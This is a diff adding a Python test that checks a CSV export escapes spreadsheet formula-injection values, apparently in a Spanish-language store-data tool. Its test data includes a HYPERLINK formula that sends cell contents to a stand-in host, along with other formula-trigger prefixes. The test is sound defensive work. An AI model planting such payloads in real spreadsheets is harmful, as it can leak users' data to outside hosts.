@@ -169,3 +169,37 @@ def test_export_into_a_folder_that_cannot_be_written_names_the_folder(tmp_path: 
         write_csv(folder / "brechas.csv", RECORDS, ["tienda"])
     assert f"No se puede escribir en la carpeta {folder}" in caught.value.es
     assert "Elija otra carpeta" in caught.value.es
+
+
+def test_csv_escapes_text_a_spreadsheet_would_run_as_a_formula(tmp_path: Path) -> None:
+    hostile = [
+        {"tienda": '=HYPERLINK("http://x.example/?"&A1,"ver")', "importe": Decimal("-1234.50")},
+        {"tienda": "+52 55 1234", "importe": Decimal("0.10"), "n": -3},
+        {"tienda": "-1+1", "importe": None, "n": -0.5},
+        {"tienda": "@SUM(A1:A9)", "importe": Decimal("-7")},
+        {"tienda": "\tT5", "importe": None},
+        {"tienda": "\rT6", "importe": None},
+        {"tienda": "Tienda = 7 - centro", "importe": None},
+    ]
+    target = tmp_path / "brechas.csv"
+    rows = write_csv(target, hostile, ["tienda", "importe", "n"])
+    parsed = list(csv.reader(target.read_bytes().decode("utf-8-sig").splitlines(keepends=True)))
+    assert [r[0] for r in parsed[1:]] == [
+        '\'=HYPERLINK("http://x.example/?"&A1,"ver")',
+        "'+52 55 1234",
+        "'-1+1",
+        "'@SUM(A1:A9)",
+        "'\tT5",
+        "'\rT6",
+        "Tienda = 7 - centro",
+    ]
+    # Numbers stay numbers, negative ones included.
+    assert [r[1] for r in parsed[1:5]] == ["-1234.50", "0.10", "", "-7"]
+    assert [r[2] for r in parsed[2:4]] == ["-3", "-0.5"]
+    data = json.loads(write_manifest(target, {}, rows).read_text(encoding="utf-8"))
+    assert "OWASP" in data["formula_escaping"] and "'" in data["formula_escaping"]
+    workbook = tmp_path / "brechas.xlsx"
+    write_xlsx(workbook, [SheetSpec("Detalle", [Column("tienda")], hostile)], {})
+    assert "formula_escaping" not in json.loads(
+        write_manifest(workbook, {}, rows).read_text(encoding="utf-8")
+    )
